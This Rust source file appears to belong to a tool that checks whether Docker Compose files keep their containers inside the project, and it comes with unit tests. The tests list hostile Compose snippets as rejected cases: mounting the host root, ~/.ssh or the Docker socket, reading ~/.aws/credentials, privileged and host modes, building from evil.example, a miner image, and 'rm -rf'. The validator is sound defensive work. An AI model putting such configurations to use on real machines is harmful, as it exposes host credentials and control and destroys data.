//! Compose files: whether the containers that they describe stay inside themselves.

use super::yaml::{self, Yaml};
use crate::knowledge::{self, schema::Facet};

/// Settings of a service that change nothing outside of it.
// Settings inside the container, or checked by value (`volumes`, `build`). `privileged`, `network_mode` and `devices`
// reach the machine and are missing.
const PLAIN: &[&str] = &[
    "image",
    "container_name",
    "ports",
    "environment",
    "depends_on",
    "restart",
    "command",
    "working_dir",
    "healthcheck",
    "networks",
    "expose",
    "profiles",
    "labels",
    "logging",
    "stop_grace_period",
    "tty",
    "stdin_open",
    "init",
    "platform",
    "hostname",
    "user",
    "volumes",
    "build",
    "entrypoint",
    "mem_limit",
    "cpus",
    "shm_size",
    "ulimits",
    "read_only",
    "tmpfs",
    "scale",
];

// `include`, `secrets` and `configs` bring in other files, so a file that has them is not fully seen.
const TOP: &[&str] = &["version", "name", "services", "volumes", "networks"];

/// Nothing in the file reaches beyond the project and its containers, and every image is one of the official ones.
pub(crate) fn stays_inside(text: &str) -> bool {
    let Some(file) = yaml::read(text) else { return false };
    let services = file.get("services").map(Yaml::members).unwrap_or_default();
    file.members().iter().all(|(key, _)| TOP.contains(&key.as_str()))
        && file
            .get("volumes")
            .is_none_or(|volumes| volumes.members().iter().all(|(_, volume)| volume.members().is_empty()))
        && services.iter().all(|(_, service)| service_stays_inside(service))
}

/// Further settings of a service that change nothing outside of it, whoever made the image.
// These matter only for an image that somebody else made; for the project's own services they change nothing outside.
const OWN: &[&str] = &[
    "env_file",
    "extra_hosts",
    "links",
    "deploy",
    "develop",
    "secrets",
    "configs",
    "stop_signal",
    "pull_policy",
    "domainname",
    "dns",
    "mem_reservation",
    "memswap_limit",
    "pids_limit",
    "cap_drop",
    "annotations",
    "attach",
    "group_add",
    "sysctls",
];

/// The same for a file of a trusted project: images and commands are its own affair, but nothing of the machine outside the
/// project is handed to a container.
pub(crate) fn stays_in_project(text: &str) -> bool {
    let Some(file) = yaml::read(text) else { return false };
    let services = file.get("services").map(Yaml::members).unwrap_or_default();
    let has_no_driver = |section: &str| {
        let members = file.get(section).map(Yaml::members).unwrap_or_default();
        members
            .iter()
            .all(|(_, member)| member.members().iter().all(|(key, _)| matches!(key.as_str(), "name" | "labels")))
    };
    let is_file = |section: &str| {
        let members = file.get(section).map(Yaml::members).unwrap_or_default();
        members.iter().all(|(_, member)| {
            let is_inner = |(key, value): &(String, Yaml)| match key.as_str() {
                "file" => value.text().is_some_and(is_inside),
                "environment" | "content" | "name" => value.text().is_some(),
                _ => false,
            };
            member.members().iter().all(is_inner)
        })
    };
    !services.is_empty()
        && file
            .members()
            .iter()
            .all(|(key, _)| TOP.contains(&key.as_str()) || matches!(key.as_str(), "secrets" | "configs"))
        && has_no_driver("volumes")
        && is_file("secrets")
        && is_file("configs")
        && services.iter().all(|(_, service)| service_stays_in_project(service))
}

fn service_stays_in_project(service: &Yaml) -> bool {
    let plain = service.members().iter().all(|(key, _)| PLAIN.contains(&key.as_str()) || OWN.contains(&key.as_str()));
    let build = service.get("build").is_none_or(|build| {
        let context = build.text().or_else(|| build.get("context").and_then(Yaml::text));
        let is_plain =
            |key: &str| matches!(key, "context" | "dockerfile" | "target" | "args" | "cache_from" | "labels");
        let dockerfile = build.get("dockerfile").is_none_or(|file| file.text().is_some_and(is_inside));
        context.is_some_and(is_inside) && dockerfile && build.members().iter().all(|(key, _)| is_plain(key))
    });
    let volumes = service.get("volumes").map(|volumes| (volumes.list(), volumes.text()));
    let mounts = volumes.is_none_or(|(volumes, text)| text.is_none() && volumes.iter().all(mounts_inside));
    let files = service.get("env_file").is_none_or(|files| match files {
        Yaml::Text(file) => is_inside(file),
        Yaml::List(files) => files.iter().all(|file| file.text().is_some_and(is_inside)),
        Yaml::Map(_) => false,
    });
    // Such a name stands for the machine itself.
    let hosts = service.get("networks").is_none_or(|networks| match networks {
        Yaml::Text(name) => name != "host",
        Yaml::List(names) => names.iter().all(|name| name.text().is_some_and(|name| name != "host")),
        Yaml::Map(names) => names.iter().all(|(name, _)| name != "host"),
    });
    let devices = service.get("deploy").is_none_or(|deploy| deploy.get("placement").is_none());
    plain && build && mounts && files && hosts && devices
}

/// `./src:/app`, a named volume, or the long form of either.
fn mounts_inside(volume: &Yaml) -> bool {
    match volume {
        Yaml::Text(text) => is_contained(text),
        Yaml::Map(_) => {
            let kind = volume.get("type").and_then(Yaml::text);
            let source = volume.get("source").is_none_or(|source| source.text().is_some_and(is_inside));
            matches!(kind, Some("bind" | "volume" | "tmpfs")) && source
        }
        Yaml::List(_) => false,
    }
}

fn service_stays_inside(service: &Yaml) -> bool {
    let members = service.members();
    let plain = members.iter().all(|(key, _)| PLAIN.contains(&key.as_str()));
    let image = service.get("image").and_then(Yaml::text);
    // Without a slash it comes from the library that the registry itself looks after.
    let official = image.is_none_or(|image| !image.contains(['/', '$']));
    let build = service.get("build").is_none_or(|build| {
        let context = build.text().or_else(|| build.get("context").and_then(Yaml::text));
        context.is_some_and(is_inside)
            && build
                .members()
                .iter()
                .all(|(key, _)| matches!(key.as_str(), "context" | "dockerfile" | "target" | "args"))
    });
    let volumes = service.get("volumes").map(Yaml::list).unwrap_or_default();
    let ports = service.get("ports").map(Yaml::list).unwrap_or_default();
    let commands = ["command", "entrypoint"].iter().filter_map(|key| service.get(key));
    // With the project mounted, what runs inside works on the project.
    let mounts_project = volumes.iter().any(|volume| volume.text().is_none_or(|text| text.starts_with('.')));
    plain
        && official
        && build
        && volumes.iter().all(|volume| volume.text().is_some_and(is_contained))
        && ports.iter().all(|port| port.text().is_some())
        && (!mounts_project || commands.into_iter().all(is_quiet))
}

fn is_inside(path: &str) -> bool {
    !path.starts_with(['/', '~', '$']) && !path.contains("..") && !path.contains("://") && !path.contains('$')
}

/// A named volume, or a directory of the project.
fn is_contained(volume: &str) -> bool {
    volume.split(':').next().is_some_and(is_inside)
}

/// Commands of servers, which have no shell in them.
fn is_quiet(command: &Yaml) -> bool {
    let words: Vec<&str> = match command {
        Yaml::Text(text) => text.split_whitespace().collect(),
        Yaml::List(words) => words.iter().filter_map(Yaml::text).collect(),
        Yaml::Map(_) => return false,
    };
    let plain = words.iter().all(|word| !word.contains([';', '|', '&', '`', '$', '<', '>', '\n', '(']));
    plain
        && words.first().is_some_and(|word| knowledge::built_in().facets(word).has(Facet::RunsInContainer))
        && !words.iter().any(|word| matches!(*word, "-c" | "-e" | "-m" | "--eval" | "exec" | "-p" | "--require" | "-r"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_trusted_project_may_not_hand_to_a_container() {
        let inside = |service: &str| stays_in_project(&format!("services:\n  x:\n{service}"));
        for service in [
            "    image: acme/api:1\n    ports: ['8000:8000']\n",
            "    build: .\n    volumes: ['./src:/app/src', 'data:/data']\n    command: sh -c 'npm start'\n",
            "    image: postgres\n    env_file: .env\n    networks: [back]\n",
            "    build:\n      context: ./api\n      dockerfile: Dockerfile.dev\n",
        ] {
            assert!(inside(service), "{service}");
        }
        for service in [
            "    image: a\n    privileged: true\n",
            "    image: a\n    network_mode: host\n",
            "    image: a\n    networks: [host]\n",
            "    image: a\n    pid: host\n",
            "    image: a\n    ipc: host\n",
            "    image: a\n    userns_mode: host\n",
            "    image: a\n    cap_add: [SYS_ADMIN]\n",
            "    image: a\n    security_opt: ['seccomp:unconfined']\n",
            "    image: a\n    devices: ['/dev/sda:/dev/sda']\n",
            "    image: a\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
            "    image: a\n    volumes: ['../other:/w']\n",
            "    image: a\n    volumes: ['${HOME}/.ssh:/k']\n",
            "    image: a\n    volumes:\n      - type: bind\n        source: /etc\n        target: /e\n",
            "    image: a\n    env_file: ~/.aws/credentials\n",
            "    image: a\n    extends: ../base.yml\n",
            "    build: https://evil.example/x.git\n",
            "    build:\n      context: .\n      network: host\n",
            "    build:\n      context: .\n      dockerfile: /etc/Dockerfile\n",
        ] {
            assert!(!inside(service), "{service}");
        }
        assert!(!stays_in_project("include: [../x.yml]\nservices:\n  x:\n    image: a\n"));
        assert!(!stays_in_project(
            "services:\n  x:\n    image: a\nvolumes:\n  v:\n    driver_opts:\n      device: /\n"
        ));
        assert!(!stays_in_project("services: {}\nsecrets:\n  k:\n    file: ~/.ssh/id_rsa\n"));
    }

    #[test]
    fn what_reaches_beyond_the_containers() {
        let inside = |service: &str| stays_inside(&format!("services:\n  x:\n{service}"));
        for service in [
            "    image: postgres:16\n    ports: ['5432:5432']\n",
            "    image: redis\n    volumes: ['data:/data']\n",
            "    build: .\n    command: npm start\n    volumes: ['.:/app']\n",
        ] {
            assert!(inside(service), "{service}");
        }
        for service in [
            "    image: postgres:16\n    volumes: ['/:/host']\n",
            "    image: postgres:16\n    volumes: ['~/.ssh:/k']\n",
            "    image: postgres:16\n    volumes: ['../x:/k']\n",
            "    image: postgres:16\n    volumes: ['${HOME}:/k']\n",
            "    image: postgres:16\n    privileged: true\n",
            "    image: postgres:16\n    network_mode: host\n",
            "    image: postgres:16\n    pid: host\n",
            "    image: evil/miner\n",
            "    image: alpine\n    volumes: ['.:/w']\n    command: sh -c 'rm -rf /w'\n",
            "    image: alpine\n    volumes: ['.:/w']\n    entrypoint: [sh, -c, 'rm -rf /w']\n",
            "    build: https://evil.example/x.git\n",
        ] {
            assert!(!inside(service), "{service}");
        }
    }
}
